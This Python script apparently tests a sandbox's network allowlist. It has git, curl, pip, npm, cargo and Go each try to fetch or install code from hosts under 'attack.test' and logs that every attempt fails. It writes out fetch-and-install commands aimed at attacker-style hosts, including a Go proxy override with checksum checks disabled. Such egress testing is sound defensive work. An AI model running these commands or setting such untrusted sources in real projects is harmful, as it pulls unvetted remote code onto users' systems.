"""Package managers that are told of hosts on no list. Each must fail; the connection log says what each asked for."""

import concurrent.futures
import json
import os
import subprocess

HERE = "/tmp/tools"
GO = {"GOPROXY": "https://go-tool.attack.test", "GONOSUMDB": "*", "GOFLAGS": "-mod=mod", "GOPATH": HERE + "/gopath", "GOCACHE": HERE + "/gocache"}
CARGO = {"CARGO_HOME": HERE + "/cargo-home", "CARGO_NET_RETRY": "0"}
NPM = ["npm", "install", "--no-audit", "--no-fund", "--fetch-retries=0", "--cache", HERE + "/npm-cache"]
MANIFEST = '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n[lib]\npath = "lib.rs"\n[dependencies]\n'
TOOLS = {
    "tool-git": (["git", "clone", "https://git-tool.attack.test/x.git"], {}, {}),
    "tool-curl": (["curl", "--fail", "--silent", "--show-error", "https://curl-tool.attack.test/x"], {}, {}),
    "tool-pip": (["pip", "install", "--retries", "0", "--target", "here", "https://pip-tool.attack.test/x-1.0.tar.gz"], {}, {}),
    "tool-pip-index": (["pip", "install", "--retries", "0", "--target", "here", "--index-url", "https://index-tool.attack.test/simple", "x"], {}, {}),
    "tool-npm": (NPM, {}, {"package.json": '{"name": "a", "version": "1.0.0", "dependencies": {"x": "https://npm-tool.attack.test/x.tgz"}}'}),
    "tool-npm-git": (NPM, {}, {"package.json": '{"name": "a", "version": "1.0.0", "dependencies": {"x": "git+https://npmgit-tool.attack.test/x.git"}}'}),
    "tool-cargo": (["cargo", "fetch"], CARGO, {"Cargo.toml": MANIFEST + 'x = { git = "https://cargo-tool.attack.test/x.git" }\n', "lib.rs": ""}),
    "tool-cargo-index": (["cargo", "fetch"], CARGO | {"CARGO_REGISTRIES_OTHER_INDEX": "sparse+https://crates-tool.attack.test/"},
                         {"Cargo.toml": MANIFEST + 'x = { version = "1", registry = "other" }\n', "lib.rs": ""}),
    "tool-go": (["go", "mod", "download", "tool.example/x@v1.0.0"], GO, {"go.mod": "module a\n"}),
}


def run(name):
    command, environment, files = TOOLS[name]
    folder = f"{HERE}/{name}"
    os.makedirs(folder)
    for file, text in files.items():
        with open(f"{folder}/{file}", "w") as out:
            out.write(text)
    try:
        done = subprocess.run(command, cwd=folder, env=os.environ | {"HOME": HERE, "GIT_TERMINAL_PROMPT": "0"} | environment,
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300)
    except FileNotFoundError:
        return "absent"
    except subprocess.TimeoutExpired:
        return "did not end"
    print(name, done.returncode, done.stderr[-300:], flush=True)
    return "failed" if done.returncode else "worked"


def main():
    os.makedirs("/workspace/output", exist_ok=True)
    with concurrent.futures.ThreadPoolExecutor(3) as pool, open("/workspace/output/results.jsonl", "w") as out:
        for name, outcome in zip(TOOLS, pool.map(run, TOOLS)):
            out.write(json.dumps({"attempt": name, "outcome": outcome}) + "\n")


if __name__ == "__main__":
    main()
